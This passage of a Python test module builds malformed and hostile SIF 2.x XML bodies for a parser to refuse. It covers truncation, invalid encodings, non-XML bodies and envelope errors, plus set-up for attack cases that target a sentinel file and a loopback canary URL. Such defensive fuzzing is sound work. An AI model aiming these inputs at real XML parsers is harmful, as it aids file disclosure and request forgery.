"""A corpus of malformed and hostile SIF 2.x message bodies, built in code.

Every :class:`Case` is one body as a peer could POST it, the SIF_Error
category/code that ``messages.parse`` must answer it with, and a one-line
``why``. Most cases start from a valid message (``messages.samples`` with fixed
ids and clock, serialised by ``messages.build``) and mutate its bytes or its
tree; the rest are written out by hand (attacks, non-XML bodies).

Bodies are made lazily (``case.data(env)``): a few are several megabytes, and
the attack cases point at a sentinel file and a canary URL that only exist while
the tests run. :class:`Env` carries those; the default one points at a path
that does not exist and at TCP port 9 on the loopback interface.

``hostile_cases()`` are the refusals (each must raise SIFError with ``expect``);
``accepted_cases()`` are near-misses that must be *accepted* (safely): they pin
down where the line is drawn, e.g. an xsi:schemaLocation hint is allowed but
never fetched. See README.md for the rationale of each family.
"""

from __future__ import annotations

import base64
import functools
import gzip
import hashlib
import itertools
from dataclasses import dataclass
from typing import Callable

from lxml import etree

from messages import NS, build
from messages.samples import KINDS, Samples
from messages.xmlsafe import DEFAULT_MAX_BYTES

NOT_WELL_FORMED = (1, 2)
GENERIC_VALIDATION = (1, 3)
INVALID_VALUE = (1, 4)
MISSING = (1, 6)
MESSAGE_NOT_SUPPORTED = (12, 2)
VERSION_NOT_SUPPORTED = (12, 3)

SAME = "same"  # lenient mode expects what strict mode expects
ACCEPT = "accept"  # lenient mode accepts the message

NS_1X = "http://www.sifinfo.org/infrastructure/1.x"
XSI = "http://www.w3.org/2001/XMLSchema-instance"
XINCLUDE = "http://www.w3.org/2001/XInclude"
S = f"{{{NS}}}"
_XP = {"s": NS}

FAMILIES = (
    "truncation",
    "encoding",
    "not-xml",
    "envelope",
    "missing",
    "value",
    "structure",
    "attack",
)


@dataclass(frozen=True)
class Env:
    """Where the attack cases point: a sentinel file (and DTD) and a canary URL."""

    sentinel_path: str = "/nonexistent-hostile-sentinel/secret.txt"
    sentinel_dtd_path: str = "/nonexistent-hostile-sentinel/secret.dtd"
    canary_url: str = "http://127.0.0.1:9/"  # the discard port; nothing listens by default

    @property
    def sentinel_uri(self) -> str:
        return "file://" + self.sentinel_path

    @property
    def sentinel_dtd_uri(self) -> str:
        return "file://" + self.sentinel_dtd_path


DEFAULT_ENV = Env()


@dataclass(frozen=True)
class Case:
    id: str
    family: str
    expect: tuple[int, int] | None  # None: must be accepted
    why: str
    make: Callable[[Env], bytes]
    lenient: object = SAME  # SAME, ACCEPT or a (category, code) pair
    heavy: bool = False  # run under the memory bound too
    prefilter: bool = False  # xmlsafe promises to refuse it before libxml2 parses anything

    def data(self, env: Env = DEFAULT_ENV) -> bytes:
        return self.make(env)

    @property
    def lenient_expect(self) -> tuple[int, int] | None:
        if self.lenient == SAME:
            return self.expect
        if self.lenient == ACCEPT:
            return None
        return self.lenient  # type: ignore[return-value]


# ---------------------------------------------------------------------------
# Valid starting points (deterministic ids and clock)

CLOCK = "2026-08-19T10:15:00-04:00"


def _ids() -> Callable[[], str]:
    counter = itertools.count(1)
    return lambda: hashlib.md5(str(next(counter)).encode()).hexdigest().upper()


@functools.lru_cache(maxsize=None)
def valid(kind: str, version: str = "2.6") -> bytes:
    """A valid message of one sample kind (``KINDS`` or a Samples method name)."""
    method = KINDS.get(kind, kind.replace("-", "_"))
    samples = Samples(version, ids=_ids(), clock=lambda: CLOCK)
    return build(getattr(samples, method)())


def tree(kind: str, version: str = "2.6") -> etree._Element:
    # Our own trusted bytes, so a plain parser is fine here.
    return etree.fromstring(valid(kind, version))


def ser(root: etree._Element) -> bytes:
    return etree.tostring(root, encoding="utf-8")


def find(root: etree._Element, path: str) -> list[etree._Element]:
    hits = root.xpath(path, namespaces=_XP)
    if not hits:
        raise LookupError(f"corpus: {path} matches nothing")
    return hits


# Mutators: each returns a ``make(env) -> bytes``.


def m_valid(kind: str, version: str = "2.6") -> Callable[[Env], bytes]:
    return lambda env: valid(kind, version)


def m_replace(kind: str, old: bytes, new: bytes, count: int = 1, version: str = "2.6") -> Callable[[Env], bytes]:
    def make(env: Env) -> bytes:
        data = valid(kind, version)
        if old not in data:
            raise LookupError(f"corpus: {old!r} not in {kind}")
        return data.replace(old, new, count)

    return make


def m_tree(kind: str, fn: Callable[[etree._Element], None], version: str = "2.6") -> Callable[[Env], bytes]:
    def make(env: Env) -> bytes:
        root = tree(kind, version)
        fn(root)
        return ser(root)

    return make


def m_remove(kind: str, path: str, version: str = "2.6") -> Callable[[Env], bytes]:
    def fn(root):
        for node in find(root, path):
            node.getparent().remove(node)

    return m_tree(kind, fn, version)


def m_text(kind: str, path: str, text, version: str = "2.6") -> Callable[[Env], bytes]:
    def fn(root):
        for node in find(root, path):
            node.text = text(node.text or "") if callable(text) else text

    return m_tree(kind, fn, version)


def m_attr(kind: str, path: str, name: str, value, version: str = "2.6") -> Callable[[Env], bytes]:
    def fn(root):
        for node in find(root, path):
            if value is None:
                del node.attrib[name]
            else:
                node.set(name, value(node.get(name, "")) if callable(value) else value)

    return m_tree(kind, fn, version)


def m_insert(kind: str, path: str, xml: str, where: str = "end", version: str = "2.6") -> Callable[[Env], bytes]:
    """Insert an XML fragment (default namespace = SIF 2.x) relative to the first match."""

    def fn(root):
        node = find(root, path)[0]
        frag = etree.fromstring(f'<w xmlns="{NS}">{xml}</w>')
        kids = list(frag)
        if where == "end":
            node.extend(kids)
        elif where == "start":
            for i, k in enumerate(kids):
                node.insert(i, k)
        elif where == "before":
            for k in kids:
                node.addprevious(k)
        elif where == "after":
            for k in reversed(kids):
                node.addnext(k)
        else:  # pragma: no cover
            raise ValueError(where)

    return m_tree(kind, fn, version)


def m_move_before(kind: str, path: str, before: str, version: str = "2.6") -> Callable[[Env], bytes]:
    def fn(root):
        node = find(root, path)[0]
        find(root, before)[0].addprevious(node)

    return m_tree(kind, fn, version)


def m_bytes(data: bytes) -> Callable[[Env], bytes]:
    return lambda env: data


def m_text_doc(text: str, encoding: str = "utf-8") -> Callable[[Env], bytes]:
    return lambda env: text.encode(encoding)


ACK = "ack-status"
EXAMPLE = "request-studentlocator-example"
COND = "request-studentlocator"
VALID_RESP = "response-studentlocator-valid"
AMBIG = "response-studentlocator-ambiguous"
ERR_RESP = "response-error"
ACK_ERR = "ack-error"
REG = "register"
EVENT_SP = "event-studentpersonal-add"
EVENT_SSE = "event-studentschoolenrollment-add"

HDR = "/s:SIF_Message/*/s:SIF_Header"
BODY = "/s:SIF_Message/*"
LOC = "//s:StudentLocator"


def _ack_str() -> str:
    return valid(ACK).decode()


def _fmt(text: str, env: Env) -> str:
    return (
        text.replace("@SENTINEL_URI@", env.sentinel_uri)
        .replace("@SENTINEL_PATH@", env.sentinel_path)
        .replace("@SENTINEL_DTD_URI@", env.sentinel_dtd_uri)
        .replace("@CANARY@", env.canary_url)
    )


# ---------------------------------------------------------------------------
# Families


def _truncation() -> list[Case]:
    cases = []
    bases = {
        "ack": ACK,
        "example": EXAMPLE,
        "ambiguous": AMBIG,
    }
    percents = (0, 1, 3, 5, 10, 20, 30, 40, 50, 60, 70, 80, 90, 95, 99)
    for label, kind in bases.items():
        for pct in percents:
            def make(env, kind=kind, pct=pct):
                data = valid(kind)
                cut = max(1, len(data) * pct // 100)
                return data[:cut]

            cases.append(Case(f"truncation-{label}-at-{pct}pct", "truncation", NOT_WELL_FORMED,
                              f"{kind} cut after {pct}% of its bytes: unclosed elements", make))
        cases.append(Case(f"truncation-{label}-last-byte", "truncation", NOT_WELL_FORMED,
                          f"{kind} without its final '>'", lambda env, kind=kind: valid(kind)[:-1]))

    decl = b'<?xml version="1.0" encoding="UTF-8"?>'
    for n in (5, 14, 20, 30, len(decl) - 1):
        cases.append(Case(f"truncation-in-xml-declaration-{n}", "truncation", NOT_WELL_FORMED,
                          "body ends inside the XML declaration", m_bytes(decl[:n])))

    def cut_at(marker: bytes, delta: int = 0, kind: str = ACK):
        def make(env):
            data = valid(kind)
            i = data.index(marker) + delta
            return data[:i]
        return make

    cases += [
        Case("truncation-inside-start-tag-name", "truncation", NOT_WELL_FORMED, "cut in the middle of '<SIF_Hea'",
             cut_at(b"<SIF_Header>", 6)),
        Case("truncation-inside-attribute-value", "truncation", NOT_WELL_FORMED, "cut inside Version=\"2.",
             cut_at(b'Version="2.6"', 11)),
        Case("truncation-inside-end-tag", "truncation", NOT_WELL_FORMED, "cut inside '</SIF_Ac'",
             cut_at(b"</SIF_Ack>", 6)),
        Case("truncation-inside-entity-ref", "truncation", NOT_WELL_FORMED, "cut inside a predefined entity '&am'",
             lambda env: valid(ACK).replace(b"<SIF_SourceId>", b"<SIF_SourceId>A&amp;B", 1).split(b"&amp;")[0] + b"&am"),
        Case("truncation-inside-cdata", "truncation", NOT_WELL_FORMED, "unterminated CDATA section",
             lambda env: valid(ACK).replace(b"<SIF_SourceId>", b"<SIF_SourceId><![CDATA[abc", 1).split(b"abc")[0] + b"abc"),
        Case("truncation-inside-comment", "truncation", NOT_WELL_FORMED, "unterminated comment",
             lambda env: valid(ACK).split(b"<SIF_Ack>")[0] + b"<SIF_Ack><!-- never closed"),
        Case("truncation-mid-utf8-character", "truncation", NOT_WELL_FORMED,
             "cut between the two bytes of 'á' (C3 A1)",
             lambda env: (valid(EXAMPLE).replace(b"Columbus", "Bogotá".encode(), 1)
                          .split("á".encode())[0] + b"\xc3")),
        Case("truncation-utf16-odd-byte", "truncation", NOT_WELL_FORMED,
             "UTF-16 body cut in the middle of a code unit",
             lambda env: valid(ACK).decode().encode("utf-16")[:-1]),
    ]
    return cases


def _encoding() -> list[Case]:
    def in_text(raw: bytes, kind: str = ACK, where: bytes = b"<SIF_SourceId>ITC01"):
        return m_replace(kind, where, where + raw)

    def decl(enc: str, body_encoding: str = "utf-8", kind: str = ACK):
        return lambda env: (f'<?xml version="1.0" encoding="{enc}"?>' + valid(kind).decode()).encode(body_encoding)

    latin1_place = valid(EXAMPLE).replace(b"Columbus", "Bogotá".encode("latin-1"), 1)
    cases = [
        Case("utf8-invalid-byte-ff", "encoding", NOT_WELL_FORMED, "0xFF never occurs in UTF-8", in_text(b"\xff")),
        Case("utf8-invalid-byte-fe", "encoding", NOT_WELL_FORMED, "0xFE never occurs in UTF-8", in_text(b"\xfe")),
        Case("utf8-overlong-slash-c0af", "encoding", NOT_WELL_FORMED, "overlong 2-byte encoding of '/'", in_text(b"\xc0\xaf")),
        Case("utf8-overlong-nul-c080", "encoding", NOT_WELL_FORMED, "modified-UTF-8 NUL (C0 80)", in_text(b"\xc0\x80")),
        Case("utf8-overlong-3byte-e080af", "encoding", NOT_WELL_FORMED, "overlong 3-byte encoding", in_text(b"\xe0\x80\xaf")),
        Case("utf8-encoded-surrogate-eda080", "encoding", NOT_WELL_FORMED, "CESU-style surrogate D800", in_text(b"\xed\xa0\x80")),
        Case("utf8-lone-continuation-80", "encoding", NOT_WELL_FORMED, "continuation byte without a lead byte", in_text(b"\x80")),
        Case("utf8-truncated-sequence-e282", "encoding", NOT_WELL_FORMED, "3-byte sequence missing its last byte", in_text(b"\xe2\x82")),
        Case("utf8-lead-byte-f5", "encoding", NOT_WELL_FORMED, "F5 lead byte is above U+10FFFF", in_text(b"\xf5\x80\x80\x80")),
        Case("utf8-above-10ffff-f49080", "encoding", NOT_WELL_FORMED, "code point U+110000", in_text(b"\xf4\x90\x80\x80")),
        Case("utf8-invalid-in-attribute", "encoding", NOT_WELL_FORMED, "invalid byte inside an attribute value",
             m_replace(ACK, b'Version="2.6"', b'Version="2.6\xff"')),
        Case("utf8-invalid-in-element-name", "encoding", NOT_WELL_FORMED, "invalid byte inside a tag name",
             m_replace(ACK, b"<SIF_Status>", b"<SIF_St\xffatus>")),
        Case("latin1-bytes-declared-utf8", "encoding", NOT_WELL_FORMED, "'Bogot\\xe1' in Latin-1 under encoding=\"UTF-8\"",
             lambda env: b'<?xml version="1.0" encoding="UTF-8"?>' + latin1_place),
        Case("latin1-bytes-undeclared", "encoding", NOT_WELL_FORMED, "Latin-1 byte with no declaration (UTF-8 is the default)",
             m_bytes(latin1_place)),
        Case("cp1252-smart-quotes-as-utf8", "encoding", NOT_WELL_FORMED, "Windows-1252 curly quotes 0x93/0x94 in UTF-8",
             in_text(b"\x93quoted\x94")),
        Case("decl-ebcdic", "encoding", NOT_WELL_FORMED, "encoding=\"EBCDIC\" is not an encoding libxml2 knows",
             decl("EBCDIC")),
        Case("decl-utf7", "encoding", NOT_WELL_FORMED, "UTF-7 declared: refused (and a classic filter-bypass trick)",
             decl("UTF-7")),
        Case("decl-ibm037", "encoding", NOT_WELL_FORMED, "EBCDIC code page declared over ASCII bytes", decl("IBM037")),
        Case("decl-bogus-encoding", "encoding", NOT_WELL_FORMED, "unknown encoding name", decl("x-hostile-8")),
        Case("decl-windows-1252", "encoding", NOT_WELL_FORMED, "only UTF-8/16, ASCII and ISO-8859-1 are accepted",
             decl("windows-1252")),
        Case("decl-shift-jis", "encoding", NOT_WELL_FORMED, "Shift_JIS is outside the accepted encodings", decl("Shift_JIS")),
        Case("decl-gbk", "encoding", NOT_WELL_FORMED, "GBK is outside the accepted encodings", decl("GBK")),
        Case("utf32-with-bom-and-decl", "encoding", NOT_WELL_FORMED, "UTF-32 body, declared", decl("UTF-32", "utf-32")),
        Case("utf32-with-bom-undeclared", "encoding", NOT_WELL_FORMED, "UTF-32 body autodetected from its BOM",
             lambda env: valid(ACK).decode().encode("utf-32")),
        Case("utf16le-no-bom-no-decl", "encoding", NOT_WELL_FORMED,
             "UTF-16LE without BOM or declaration reads as UTF-8 with NULs",
             lambda env: valid(ACK).decode().encode("utf-16-le")),
        Case("decl-utf16-but-utf8-bytes", "encoding", NOT_WELL_FORMED, "encoding=\"UTF-16\" over single-byte text",
             decl("UTF-16")),
        Case("bom-utf8-decl-utf16", "encoding", NOT_WELL_FORMED,
             "UTF-8 BOM contradicts encoding=\"UTF-16\" (XML 1.0 §4.3.3: fatal error)",
             lambda env: b"\xef\xbb\xbf" + b'<?xml version="1.0" encoding="UTF-16"?>' + valid(ACK)),
        Case("bom-utf16le-decl-utf8", "encoding", NOT_WELL_FORMED,
             "UTF-16LE BOM contradicts encoding=\"UTF-8\" (XML 1.0 §4.3.3: fatal error)",
             lambda env: b"\xff\xfe" + ('<?xml version="1.0" encoding="UTF-8"?>' + valid(ACK).decode()).encode("utf-16-le")),
        Case("bom-utf16le-then-utf8-bytes", "encoding", NOT_WELL_FORMED, "UTF-16 BOM in front of UTF-8 bytes",
             lambda env: b"\xff\xfe" + valid(ACK)),
        Case("bom-utf8-twice", "encoding", NOT_WELL_FORMED, "a second BOM is a U+FEFF character before the root",
             lambda env: b"\xef\xbb\xbf\xef\xbb\xbf" + valid(ACK)),
        Case("nul-byte-in-text", "encoding", NOT_WELL_FORMED, "NUL is not an XML character", in_text(b"\x00")),
        Case("nul-byte-first", "encoding", NOT_WELL_FORMED, "body starts with NUL", lambda env: b"\x00" + valid(ACK)),
        Case("nul-byte-last", "encoding", NOT_WELL_FORMED, "C-string style trailing NUL", lambda env: valid(ACK) + b"\x00"),
        Case("nul-byte-in-tag", "encoding", NOT_WELL_FORMED, "NUL inside a tag name",
             m_replace(ACK, b"<SIF_Status>", b"<SIF_\x00Status>")),
        Case("control-char-01", "encoding", NOT_WELL_FORMED, "U+0001 is not an XML 1.0 character", in_text(b"\x01")),
        Case("control-char-escape-1b", "encoding", NOT_WELL_FORMED, "ANSI escape sequence in text", in_text(b"\x1b[31m")),
        Case("control-char-formfeed", "encoding", NOT_WELL_FORMED, "form feed is not an XML character", in_text(b"\x0c")),
        Case("charref-zero", "encoding", NOT_WELL_FORMED, "&#0; refers to NUL", in_text(b"&#0;")),
        Case("charref-x1", "encoding", NOT_WELL_FORMED, "&#x1; is not allowed in XML 1.0", in_text(b"&#x1;")),
        Case("charref-surrogate", "encoding", NOT_WELL_FORMED, "&#xD800; is a surrogate", in_text(b"&#xD800;")),
        Case("charref-above-max", "encoding", NOT_WELL_FORMED, "&#x110000; is above U+10FFFF", in_text(b"&#x110000;")),
        Case("charref-fffe", "encoding", NOT_WELL_FORMED, "&#xFFFE; is a non-character excluded by XML", in_text(b"&#xFFFE;")),
        Case("charref-huge-decimal", "encoding", NOT_WELL_FORMED, "character reference with 40 digits",
             in_text(b"&#" + b"9" * 40 + b";")),
        Case("xml-decl-version-2", "encoding", NOT_WELL_FORMED, "XML version 2.0 does not exist",
             lambda env: b'<?xml version="2.0"?>' + valid(ACK)),
        Case("xml-decl-after-whitespace", "encoding", NOT_WELL_FORMED, "the XML declaration must be the very first bytes",
             lambda env: b'  <?xml version="1.0"?>' + valid(ACK)),
        Case("xml-decl-twice", "encoding", NOT_WELL_FORMED, "two XML declarations",
             lambda env: b'<?xml version="1.0"?><?xml version="1.0"?>' + valid(ACK)),
        Case("xml-decl-standalone-bogus", "encoding", NOT_WELL_FORMED, "standalone must be yes or no",
             lambda env: b'<?xml version="1.0" standalone="maybe"?>' + valid(ACK)),
    ]
    return cases


def _not_xml() -> list[Case]:
    sif = valid(ACK)
    http_req = (b"POST /zis/state HTTP/1.1\r\nHost: zis\r\nContent-Type: application/xml\r\n"
                b"Content-Length: %d\r\n\r\n" % len(sif)) + sif
    multipart = (b"--boundary\r\nContent-Disposition: form-data; name=\"msg\"\r\n"
                 b"Content-Type: application/xml\r\n\r\n" + sif + b"\r\n--boundary--\r\n")
    T = lambda i, why, data, expect=NOT_WELL_FORMED, **kw: Case(f"not-xml-{i}", "not-xml", expect, why, m_bytes(data), **kw)  # noqa: E731
    return [
        T("empty-body", "zero bytes: a POST without a body", b"", prefilter=True),
        T("single-space", "one space", b" ", prefilter=True),
        T("crlf-only", "a bare line break", b"\r\n", prefilter=True),
        T("tabs-and-newlines", "whitespace of every kind", b"\t\n\r \t\n", prefilter=True),
        T("ten-kilobytes-of-spaces", "10 KB of spaces", b" " * 10_000, prefilter=True),
        T("nul-bytes-only", "16 NUL bytes", b"\x00" * 16),
        T("plain-text", "a sentence", b"hello, zone"),
        T("json-null", "JSON null", b"null"),
        T("json-number", "JSON number", b"42"),
        T("json-object", "a JSON object", b'{"SIF_Message": {"Version": "2.6", "SIF_Ack": {}}}'),
        T("json-array", "a JSON array", b'[{"IdStatus": "Request"}]'),
        T("json-with-xml-string", "XML inside a JSON string", b'{"xml": "' + sif.replace(b'"', b'\\"') + b'"}'),
        T("html-unclosed", "HTML with unclosed tags", b"<html><body><p>Service Unavailable</body>"),
        T("html-void-element", "HTML void element <br>", b"<html><body>Bad Gateway<br></body></html>"),
        T("html-doctype", "HTML5 page (DOCTYPE refused)", b"<!DOCTYPE html><html><head><title>502</title></head></html>",
          prefilter=True),
        T("html-entity-nbsp", "HTML entity &nbsp; is undefined in XML", b"<html><body>&nbsp;</body></html>"),
        T("xhtml-well-formed", "well-formed XHTML parses but is not a SIF_Message",
          b'<html xmlns="http://www.w3.org/1999/xhtml"><body><p>error page</p></body></html>', GENERIC_VALIDATION),
        T("soap-envelope", "SIF_Message wrapped in SOAP: wrong document element",
          b'<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>' + sif
          + b"</soap:Body></soap:Envelope>", GENERIC_VALIDATION),
        T("lone-less-than", "just '<'", b"<"),
        T("empty-tag", "'<>'", b"<>"),
        T("end-tag-only", "a closing tag with no opening one", b"</SIF_Message>"),
        T("xml-declaration-only", "a declaration and no element", b'<?xml version="1.0" encoding="UTF-8"?>'),
        T("comment-only", "a comment and no element", b"<!-- SIF_Message goes here -->"),
        T("processing-instruction-only", "a PI and no element", b'<?xml-stylesheet href="x.xsl"?>'),
        T("gzip-compressed-message", "gzip body without Content-Encoding handling", gzip.compress(sif, mtime=0)),
        T("base64-message", "base64 of a valid message", base64.b64encode(sif)),
        T("url-encoded-form", "application/x-www-form-urlencoded body", b"xml=%3CSIF_Message%20Version%3D%222.6%22%3E"),
        T("http-request-in-body", "a whole HTTP request pasted into the body", http_req),
        T("multipart-form-data", "multipart/form-data body", multipart),
        T("two-messages-concatenated", "two SIF_Message documents back to back", sif + sif),
        T("trailing-garbage", "text after the document element", sif + b"garbage"),
        T("trailing-element", "a second root element", sif + b"<SIF_Message/>"),
        T("csv", "CSV rows", b"LocalId,LastName,FirstName\n100234,Okafor,Amara\n"),
        T("yaml", "YAML", b"SIF_Message:\n  Version: '2.6'\n"),
        T("unclosed-start-tag", "'<SIF_Message' and nothing else", b'<SIF_Message xmlns="' + NS.encode()),
        T("unquoted-attribute", "HTML-style unquoted attribute", b"<SIF_Message Version=2.6/>"),
        T("duplicate-attribute", "the same attribute twice",
          valid(ACK).replace(b'Version="2.6"', b'Version="2.6" Version="2.5"', 1)),
        T("undefined-entity", "&nbsp; without a DTD", valid(ACK).replace(b"<SIF_SourceId>", b"<SIF_SourceId>&nbsp;", 1)),
        T("mismatched-end-tag", "closing tag does not match", valid(ACK).replace(b"</SIF_Status>", b"</SIF_Statu>", 1)),
        T("bad-namespace-prefix", "undeclared prefix", valid(ACK).replace(b"<SIF_Status>", b"<x:SIF_Status>", 1)
          .replace(b"</SIF_Status>", b"</x:SIF_Status>", 1)),
    ]


def _envelope() -> list[Case]:
    ack = valid(ACK)

    def with_ns(ns: str | None, kind: str = ACK):
        def make(env):
            data = valid(kind)
            new = b"" if ns is None else b'xmlns="' + ns.encode() + b'"'
            return data.replace(b'xmlns="' + NS.encode() + b'"', new, 1)
        return make

    def version(v: str | None, kind: str = ACK):
        return m_attr(kind, "/s:SIF_Message", "Version", v)

    def body_named(name: str, ns: str | None = NS):
        def make(env):
            xmlns = "" if ns == NS else f' xmlns="{ns or ""}"'
            return ack.replace(b"<SIF_Ack>", f"<{name}{xmlns}>".encode(), 1).replace(b"</SIF_Ack>", f"</{name}>".encode(), 1)
        return make

    E = lambda i, expect, why, make, **kw: Case(f"envelope-{i}", "envelope", expect, why, make, **kw)  # noqa: E731
    cases = [
        E("no-namespace", GENERIC_VALIDATION, "SIF_Message without xmlns", with_ns(None)),
        E("namespace-uk", GENERIC_VALIDATION, "UK SIF 2.x namespace", with_ns("http://www.sifinfo.org/uk/infrastructure/2.x")),
        E("namespace-au", GENERIC_VALIDATION, "AU SIF 2.x namespace", with_ns("http://www.sifinfo.org/au/infrastructure/2.x")),
        E("namespace-sif3", GENERIC_VALIDATION, "SIF 3 infrastructure namespace",
          with_ns("http://www.sifassociation.org/infrastructure/3.x")),
        E("namespace-trailing-slash", GENERIC_VALIDATION, "namespace with a trailing slash", with_ns(NS + "/")),
        E("namespace-https", GENERIC_VALIDATION, "https instead of http in the namespace",
          with_ns(NS.replace("http:", "https:"))),
        E("namespace-capitalised", GENERIC_VALIDATION, "namespaces compare case-sensitively",
          with_ns(NS.replace("sifinfo", "SIFinfo"))),
        E("namespace-2X", GENERIC_VALIDATION, "'2.X' is not '2.x'", with_ns(NS.replace("2.x", "2.X"))),
        E("namespace-empty-string", GENERIC_VALIDATION, 'xmlns="" on the root', with_ns("")),
        E("prefixed-root-wrong-namespace", GENERIC_VALIDATION, "sif:SIF_Message bound to another URI",
          lambda env: ack.replace(b'<SIF_Message xmlns="' + NS.encode() + b'"', b'<sif:SIF_Message xmlns:sif="urn:not-sif" xmlns="' + NS.encode() + b'"', 1)
          .replace(b"</SIF_Message>", b"</sif:SIF_Message>")),
        E("sif1x-namespace", VERSION_NOT_SUPPORTED, "SIF 1.x namespace with a 1.x Version",
          lambda env: with_ns(NS_1X)(env).replace(b'Version="2.6"', b'Version="1.5r1"')),
        E("sif1x-namespace-2x-version", VERSION_NOT_SUPPORTED, "SIF 1.x namespace even with Version=2.6", with_ns(NS_1X)),
        E("sif1x-register", VERSION_NOT_SUPPORTED, "a 1.x SIF_Register", lambda env: with_ns(NS_1X, REG)(env)
          .replace(b'Version="2.6"', b'Version="1.1"')),
        E("root-is-sif-ack", GENERIC_VALIDATION, "SIF_Ack as the document element (no envelope)",
          lambda env: etree.tostring(find(tree(ACK), BODY)[0])),
        E("root-is-studentlocator", GENERIC_VALIDATION, "a bare StudentLocator object POSTed",
          lambda env: etree.tostring(find(tree(VALID_RESP), LOC)[0])),
        E("root-sif-message-lowercase", GENERIC_VALIDATION, "sif_message in the right namespace",
          lambda env: ack.replace(b"SIF_Message", b"sif_message")),
    ]
    for v in ("3.0", "1.5r1", "2.7", "2.0r2", "2.6r1", "1.1", "10.0", "2.11111111"):
        cases.append(E(f"version-unsupported-{v}", VERSION_NOT_SUPPORTED, f"Version {v} is a version we do not speak", version(v)))
    for label, v in (("abc", "abc"), ("empty", ""), ("major-only", "2"), ("uppercase-R", "2.0R1"), ("v-prefix", "v2.0"),
                     ("inner-space", "2.0 r1"), ("wildcard", "2.*"), ("letter-minor", "2.x"), ("negative", "-2.0"),
                     ("word", "two")):
        cases.append(E(f"version-malformed-{label}", INVALID_VALUE, f"Version {v!r} is not a SIF version", version(v)))
    cases += [
        E("version-missing", MISSING, "SIF_Message without Version", version(None)),
        E("version-in-a-namespace", MISSING, "sif:Version is not the unqualified Version attribute",
          lambda env: ack.replace(b'Version="2.6"', b'xmlns:sif="' + NS.encode() + b'" sif:Version="2.6"', 1)),
        E("body-sif-foo", MESSAGE_NOT_SUPPORTED, "no such SIF message", body_named("SIF_Foo")),
        E("body-sif-serviceinput", MESSAGE_NOT_SUPPORTED, "2.4 zone-service message, not used by the SLF",
          body_named("SIF_ServiceInput")),
        E("body-sif-serviceoutput", MESSAGE_NOT_SUPPORTED, "2.4 zone-service message", body_named("SIF_ServiceOutput")),
        E("body-sif-servicenotify", MESSAGE_NOT_SUPPORTED, "2.4 zone-service message", body_named("SIF_ServiceNotify")),
        E("body-sif-query", MESSAGE_NOT_SUPPORTED, "SIF_Query is a part of SIF_Request, not a message", body_named("SIF_Query")),
        E("body-sif-ping-direct", MESSAGE_NOT_SUPPORTED, "SIF_Ping outside SIF_SystemControl", body_named("SIF_Ping")),
        E("body-nested-sif-message", MESSAGE_NOT_SUPPORTED, "SIF_Message inside SIF_Message", body_named("SIF_Message")),
        E("systemcontrol-sif-foo", MESSAGE_NOT_SUPPORTED, "unknown SIF_SystemControl command",
          m_replace("getmessage", b"<SIF_GetMessage/>", b"<SIF_Foo/>")),
        E("systemcontrol-sif-getzonestatus-typo", MESSAGE_NOT_SUPPORTED, "misspelt command",
          m_replace("getmessage", b"<SIF_GetMessage/>", b"<SIF_GetMessages/>")),
        E("cancelrequests-in-2.0r1", MESSAGE_NOT_SUPPORTED, "SIF_CancelRequests exists from 2.1 on",
          m_replace("cancelrequests", b'Version="2.1"', b'Version="2.0r1"', version="2.1")),
        E("cancelrequests-in-2.0", MESSAGE_NOT_SUPPORTED, "SIF_CancelRequests in the unofficial 2.0",
          m_replace("cancelrequests", b'Version="2.1"', b'Version="2.0"', version="2.1")),
        E("error-category-14-in-2.3", INVALID_VALUE, "category 14 (zone services) exists from 2.4 on",
          m_text(ACK_ERR, "//s:SIF_Error/s:SIF_Category", "14", version="2.3")),
        E("error-code-8-19-in-2.3", INVALID_VALUE, "code 8/19 exists from 2.4 on",
          lambda env: m_text(ACK_ERR, "//s:SIF_Error/s:SIF_Category", "8", version="2.3")(env)
          .replace(b"<SIF_Code>5</SIF_Code>", b"<SIF_Code>19</SIF_Code>")),
        E("inner-message-version-3.0", VERSION_NOT_SUPPORTED, "pulled message inside SIF_Data says 3.0",
          m_attr("ack-getmessage-with-message", "//s:SIF_Data/s:SIF_Message", "Version", "3.0")),
        E("inner-message-version-1.5r1", VERSION_NOT_SUPPORTED, "pulled message inside SIF_Data says 1.5r1",
          m_attr("ack-getmessage-with-message", "//s:SIF_Data/s:SIF_Message", "Version", "1.5r1")),
        E("empty-sif-message", MISSING, "SIF_Message with no message element in it",
          lambda env: b'<SIF_Message xmlns="' + NS.encode() + b'" Version="2.6"/>'),
        E("two-message-bodies", GENERIC_VALIDATION, "SIF_Ack and SIF_Register in one SIF_Message",
          lambda env: ack.replace(b"</SIF_Message>", valid(REG).split(b'Version="2.6">', 1)[1], 1)),
        E("body-in-no-namespace", GENERIC_VALIDATION, "SIF_Ack with xmlns=\"\" inside a SIF 2.x envelope",
          body_named("SIF_Ack", "")),
        E("body-in-foreign-namespace", GENERIC_VALIDATION, "SIF_Ack in a vendor namespace", body_named("SIF_Ack", "urn:vendor")),
    ]
    return cases


def _missing() -> list[Case]:
    M = lambda i, why, make, **kw: Case(f"missing-{i}", "missing", MISSING, why, make, **kw)  # noqa: E731
    cases = []
    for kind in (REG, "unregister", "provide", "subscribe", "provision", EVENT_SP, COND, VALID_RESP, ACK, "getmessage"):
        cases.append(M(f"header-in-{kind}", f"{kind} without SIF_Header", m_remove(kind, HDR)))
    for kind in (REG, ACK, VALID_RESP, COND, EVENT_SP, "ping"):
        cases.append(M(f"msgid-in-{kind}", f"{kind} header without SIF_MsgId", m_remove(kind, HDR + "/s:SIF_MsgId")))
    for kind in (REG, ACK, VALID_RESP, EVENT_SP, "sleep"):
        cases.append(M(f"sourceid-in-{kind}", f"{kind} header without SIF_SourceId", m_remove(kind, HDR + "/s:SIF_SourceId")))
    for kind in (REG, COND, ACK):
        cases.append(M(f"timestamp-in-{kind}", f"{kind} header without SIF_Timestamp", m_remove(kind, HDR + "/s:SIF_Timestamp")))
    cases += [
        M("register-name", "SIF_Register without SIF_Name", m_remove(REG, BODY + "/s:SIF_Name")),
        M("register-version", "SIF_Register without any SIF_Version", m_remove(REG, BODY + "/s:SIF_Version")),
        M("register-maxbuffersize", "SIF_Register without SIF_MaxBufferSize", m_remove(REG, BODY + "/s:SIF_MaxBufferSize")),
        M("register-mode", "SIF_Register without SIF_Mode", m_remove(REG, BODY + "/s:SIF_Mode")),
        M("register-application-product", "SIF_Application without SIF_Product",
          m_remove(REG, "//s:SIF_Application/s:SIF_Product")),
        M("request-version", "SIF_Request without SIF_Version", m_remove(COND, BODY + "/s:SIF_Version")),
